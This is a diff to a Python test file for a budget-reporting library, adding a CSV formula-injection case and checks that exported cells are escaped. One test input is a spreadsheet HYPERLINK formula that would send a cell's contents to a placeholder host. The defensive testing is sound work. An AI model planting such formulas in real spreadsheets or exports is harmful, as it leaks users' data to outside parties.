@@ -13,6 +13,7 @@ import pandas as pd
 import pytest
 
 from budgetkit.compare import strip_year
+from budgetkit.csvsafe import FORMULA_START, unescape_cell
 from budgetkit.report.codes import code_label
 from budgetkit.report.display import ReadingTable, dictionary_table, format_number, format_value
 from budgetkit.report.failures import describe_error, relativise
@@ -27,6 +28,7 @@ ADVERSARIAL = [
     pytest.param("⼯会 ⼾ 戶", id="kangxi-radicals"),
     pytest.param("第一行\n第二行", id="newline"),
     pytest.param("职工" * 600, id="1200-characters"),
+    pytest.param('=HYPERLINK("http://x.invalid/?d="&A1,"点击")', id="formula-injection"),
 ]
 
 
@@ -78,7 +80,8 @@ def test_csv_download_holds_the_data(text):
     assert raw.startswith("\ufeff"), "a BOM, so that Excel reads the Chinese"
     back = pd.read_csv(io.StringIO(raw[1:]))
     assert back.columns.tolist() == ["项目名称", "项目总额（万元）", "三级指标数（个）"]
-    assert back.iloc[0, 0] == text and back.iloc[0, 1] == 886.8 and pd.isna(back.iloc[1, 1])
+    assert unescape_cell(back.iloc[0, 0]) == text and back.iloc[0, 1] == 886.8 and pd.isna(back.iloc[1, 1])
+    assert not back.iloc[0, 0].startswith(FORMULA_START), "a spreadsheet would run it"
 
 
 def test_table_has_no_index_column_and_bilingual_headers():
